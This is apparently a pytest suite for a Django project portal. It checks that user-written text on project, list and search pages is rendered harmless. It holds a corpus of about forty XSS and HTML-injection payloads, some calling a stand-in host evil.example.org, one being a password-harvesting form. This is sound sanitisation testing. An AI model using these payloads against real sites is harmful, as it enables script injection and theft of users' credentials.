"""What people write stays text: the page's own elements are the only ones that act."""

from html.parser import HTMLParser

import pytest
from django.test import Client

from projects.models import Project, Resource
from tests.factories import make_public, make_resource

pytestmark = pytest.mark.django_db
CORPUS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](https://example.org/" onerror="alert(1))',
    "<javascript:alert(1)>",
    "[ref]: javascript:alert(1)\n\n[ref]",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "<style>@import 'https://evil.example.org'</style>",
    "<link rel=stylesheet href=https://evil.example.org>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.org'>",
    "<base href=https://evil.example.org>",
    "<form action=https://evil.example.org><input name=password></form>",
    "<object data=x></object><embed src=x>",
    "<details open ontoggle=alert(1)>",
    "<div hx-get='https://evil.example.org' hx-trigger='load'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "\u202e<script>alert(1)</script>",
    "{{ 7|add:7 }}{% debug %}",
)


class Acting(HTMLParser):
    """Collects what could act in a page: foreign elements, handlers, styles, htmx attributes and addresses that run."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        own_script = tag == "script" and values.get("src", "").startswith("/static/")
        if tag in {"script", "style", "iframe", "object", "embed", "base", "math", "noscript"} and not own_script:
            self.found.append(tag)
        if tag == "meta" and "http-equiv" in values:
            self.found.append("meta refresh")
        for name, value in values.items():
            scheme = "".join(value.split()).lower().partition(":")[0]
            if name.startswith("on") or name == "style" or scheme in {"javascript", "vbscript"}:
                self.found.append(f"{tag} {name}={value}")
            if (name in {"href", "src", "action"} and scheme == "data") or (name.startswith("hx-") and "evil" in value):
                self.found.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag


def acting(body: str) -> list[str]:
    """All that acts in a page and that the portal did not put there."""
    parser = Acting()
    parser.feed(body)
    return parser.found


def test_the_check_sees_what_acts() -> None:
    assert acting("<p onclick=x><a href=' java\tscript:x'><script>x</script><svg onload=x /><p style=x>") != []
    assert len(acting("<p onclick=x><a href=' java\tscript:x'><script>x</script><svg onload=x /><p style=x>")) == 5


def hostile(text: str) -> Project:
    """A project that has the text wherever people can write."""
    line = text.replace("\n", " ")
    project = make_public(
        title=line, summary=line, description=text, theme=line[:60], experiments=[text], institutes=[text], contact=text,
        licence=line[:100], citation=text, scope=line[:60], picture_description=line,
    )  # fmt: skip
    for kind in Resource.Kind:
        make_resource(project, kind=kind, identifier=text, title=line, facts={"type": text, "entry": text})
    return project


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_that_people_write_acts_on_a_project_page(client: Client, text: str) -> None:
    project = hostile(text)
    for part in ("", "data/", "software/", "results/"):
        body = client.get(f"/projects/{project.slug}/{part}").content.decode()
        assert acting(body) == []
        assert "<title>" in body
    assert "add:7" in client.get(f"/projects/{project.slug}/").content.decode() or "add:7" not in text


def test_nothing_that_people_write_acts_in_a_list(client: Client) -> None:
    for text in CORPUS:
        hostile(text)
    for address in ("/", "/projects/", *(f"/search/?q={text[:5]}" for text in CORPUS[:8])):
        assert acting(client.get(address).content.decode()) == []


def test_honest_markdown_is_kept() -> None:
    project = make_public(description="# Title\n\n*Text*, a [link](https://example.org/) and\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    html = project.description_html
    for part in ("<h2>Title</h2>", "<em>Text</em>", '<a href="https://example.org/"', "<td>1</td>"):
        assert part in html
